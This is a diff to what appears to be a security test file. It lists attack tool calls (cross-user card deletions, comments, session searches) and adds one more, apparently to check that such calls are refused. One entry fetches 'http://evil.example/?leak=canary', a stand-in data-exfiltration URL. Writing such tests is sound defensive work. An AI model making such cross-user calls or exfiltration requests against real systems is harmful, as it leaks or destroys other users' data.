@@ -32,6 +32,7 @@ ATTACKS: tuple[tuple[str, dict[str, Any]], ...] = (
     ("search_sessions", {"text": "canary", "everywhere": True}),
     ("delete_card", {"number": 1}),
     ("delete_card", {"number": 1, "board": "Secret"}),
+    ("delete_card", {"number": 2, "board": "Secret", "title": "Minutes"}),
     ("comment_card", {"number": 1, "board": "Garden", "content": "canary"}),
     ("create_card", {"title": "canary", "board": "Garden"}),
     ("fetch_url", {"url": "http://evil.example/?leak=canary"}),
@@ -85,7 +86,7 @@ class House:
 
     def __init__(self, room: Room, bobs: Api) -> None:
         self.room, self.bobs = room, bobs
-        self._board(room.api, "Secret", "The plan")
+        self._board(room.api, "Secret", "The plan", "Minutes")
         garden = self._board(bobs, "Garden", "Water it")
         bobs.ok("post", f"/api/boards/{garden}/members/", {"username": "alice", "role": "editor"})
         private = room.api.ok("post", "/api/sessions/", {"title": "Alone"})["session"]["id"]
@@ -148,10 +149,11 @@ class House:
         }
 
     @staticmethod
-    def _board(client: Api, name: str, title: str) -> str:
+    def _board(client: Api, name: str, *titles: str) -> str:
         board = str(client.ok("post", "/api/boards/", {"name": name})["board"]["id"])
         column = client.ok("get", f"/api/boards/{board}/snapshot/")["state"]["columns"][0]["id"]
-        client.ok("post", f"/api/boards/{board}/cards/", {"column": column, "title": title})
+        for title in titles:
+            client.ok("post", f"/api/boards/{board}/cards/", {"column": column, "title": title})
         return board
 
 
